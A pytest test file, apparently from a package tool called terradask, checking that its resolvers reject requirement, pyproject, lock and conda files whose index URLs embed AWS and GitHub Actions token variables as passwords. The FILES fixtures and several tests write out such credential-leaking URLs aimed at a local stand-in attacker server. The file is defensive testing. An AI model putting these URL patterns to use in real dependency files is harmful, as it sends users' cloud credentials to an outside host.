"""A file of packages that somebody else wrote names variables that open the reader's AWS account,
for an index of its author.
"""

from __future__ import annotations

import base64
import threading
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import pytest

from terradask._software.conda.solver import CondaSolver
from terradask._software.indexes.configured import Machine
from terradask._software.lock_from_file import lock_file_packages, lock_requirements
from terradask._software.resolver import Resolver, Unsolvable
from terradask._software.uv import uv_variables
from terradask.errors import SoftwareNotResolved, SoftwareUnusable

from ..unit.test_package_sync import Environ, client

SECRET = "s3cret-of-aws"
NAMES = (
    "AWS_ACCESS_KEY_ID",
    "AWS_SECRET_ACCESS_KEY",
    "AWS_SESSION_TOKEN",
    "AWS_CONTAINER_AUTHORIZATION_TOKEN",
    "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
)


@dataclass
class Index:
    """An index of the attacker's, and what it was sent."""

    #: With a variable as the password.
    url: str = ""
    received: list[str] = field(default_factory=list)

    @property
    def got_secret(self) -> bool:
        return any(SECRET in each for each in self.received)


@pytest.fixture
def theirs() -> Iterator[Index]:
    found = Index()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            _, _, basic = self.headers.get("Authorization", "").partition(" ")
            found.received += [self.path, base64.b64decode(basic).decode()]
            self.send_response(404)
            self.end_headers()

        do_HEAD = do_GET  # noqa: N815

        def log_message(self, format: str, *args: object) -> None:
            pass

    with HTTPServer(("127.0.0.1", 0), Handler) as server:
        found.url = f"http://u:${{AWS_SECRET_ACCESS_KEY}}@127.0.0.1:{server.server_address[1]}"
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield found
        server.shutdown()
        thread.join()


@pytest.fixture
def environ(theirs: Index, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Environ:
    """The reader's variables, in the attacker's folder."""
    monkeypatch.chdir(tmp_path)
    plain = theirs.url.replace("u:${AWS_SECRET_ACCESS_KEY}@", "")
    return {**client(f"{plain}/simple", tmp_path / "cache"), **dict.fromkeys(NAMES, SECRET)}


PROJECT = """
[project]
name = "p"
version = "0"
dependencies = ["evil @ {url}/evil-1-py3-none-any.whl"]
"""
FILES = {
    "requirements.txt": "--index-url {url}/simple\nevil\n",
    "extra.txt": "evil\n--extra-index-url={url}/simple\n",
    "links.txt": "--find-links {url}/links\nevil\n",
    "url.txt": "evil @ {url}/evil-1-py3-none-any.whl\n",
    "git.txt": "git+{url}/evil\n",
    "pyproject.toml": PROJECT,
    "uv.lock": "version = 1\n# {url}\n",
    "environment.yml": "channels: ['{url}/channel']\ndependencies: [evil]\n",
    "pip.yml": "channels: [conda-forge]\ndependencies: [{{pip: ['--index-url {url}/', evil]}}]\n",
    "dollar.yml": "channels: ['http://$AWS_SESSION_TOKEN@{host}/']\ndependencies: [evil]\n",
}


@pytest.mark.parametrize("name", FILES)
def test_no_file_of_packages_sends_what_opens_the_account(
    theirs: Index, environ: Environ, tmp_path: Path, name: str
) -> None:
    path = tmp_path / name
    path.write_text(FILES[name].format(url=theirs.url, host=theirs.url.partition("@")[2]))
    with pytest.raises(
        SoftwareUnusable, match=r"variable AWS_S\w+, which would send your AWS"
    ) as said:
        lock_file_packages(path, "x86_64", environ)
    assert SECRET not in str(said.value)
    assert theirs.received == []


@pytest.mark.parametrize("option", ["-r", "-c"])
def test_no_file_that_another_one_includes_does(
    theirs: Index, environ: Environ, tmp_path: Path, option: str
) -> None:
    (tmp_path / "inner.txt").write_text(f"--index-url {theirs.url}/simple\n")
    (tmp_path / "between.txt").write_text("-r inner.txt\n")
    (tmp_path / "requirements.txt").write_text(f"{option} between.txt\nevil\n")
    with pytest.raises(SoftwareUnusable, match=r"inner\.txt(?s:.*)AWS_SECRET_ACCESS_KEY"):
        lock_file_packages(tmp_path / "requirements.txt", "x86_64", environ)
    assert theirs.received == []


def test_no_requirement_of_the_settings_does(
    theirs: Index, environ: Environ, tmp_path: Path
) -> None:
    line = f"evil @ {theirs.url}/evil-1-py3-none-any.whl"
    with pytest.raises(SoftwareUnusable, match="AWS_SECRET_ACCESS_KEY"):
        lock_requirements([line], tmp_path / "terradask.toml", "x86_64", environ)
    assert theirs.received == []


@pytest.mark.parametrize("name", ["requirements.txt", "pyproject.toml"])
def test_uv_has_no_such_variable_whatever_it_reads(
    theirs: Index, environ: Environ, tmp_path: Path, name: str
) -> None:
    path = tmp_path / name
    keyring = '[tool.uv]\nkeyring-provider = "subprocess"\n' if name == "pyproject.toml" else ""
    path.write_text(FILES[name].format(url=theirs.url) + keyring)
    environ = {key: value for key, value in environ.items() if key != "UV_NO_CONFIG"}
    with suppress(Unsolvable, SoftwareNotResolved, SoftwareUnusable):
        Resolver("x86_64", environ, folder=tmp_path).resolve_files([path], [])
    assert theirs.received
    assert not theirs.got_secret


@pytest.mark.parametrize(
    ("variable", "in_users", "in_projects", "kept"),
    [
        ("", "", "", False),
        ("", "", "subprocess", False),
        ("subprocess", "", "", True),
        ("", "subprocess", "", True),
        ("disabled", "subprocess", "", False),
    ],
)
def test_a_keyring_that_the_user_chose_has_them(
    tmp_path: Path, variable: str, in_users: str, in_projects: str, kept: bool
) -> None:
    machine = Machine("linux", tmp_path / "home", tmp_path / "repository", tmp_path, tmp_path)
    users, project = machine.home / ".config/uv", machine.folder
    for folder, said in ((users, in_users), (project, in_projects)):
        folder.mkdir(parents=True)
        if said:
            (folder / "uv.toml").write_text(f'keyring-provider = "{said}"\n')
    secrets = dict.fromkeys(NAMES, SECRET)
    given = {"UV_KEYRING_PROVIDER": variable} if variable else {}
    found = uv_variables({**secrets, "AWS_PROFILE": "work", **given}, machine)
    assert found == {"AWS_PROFILE": "work", **given, **(secrets if kept else {})}


def test_what_solves_for_conda_has_none(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    pytest.importorskip("rattler")
    seen: list[dict[str, str]] = []

    def run(*_: object, env: dict[str, str], **__: object) -> None:
        seen.append(env)
        raise OSError

    monkeypatch.setattr("subprocess.run", run)
    environ = {**dict.fromkeys(NAMES, SECRET), "HOME": str(tmp_path)}
    with pytest.raises(SoftwareNotResolved):
        CondaSolver(tmp_path / "environment.yml", (), "x86_64", environ).distributions([])
    assert seen == [{"HOME": str(tmp_path)}]
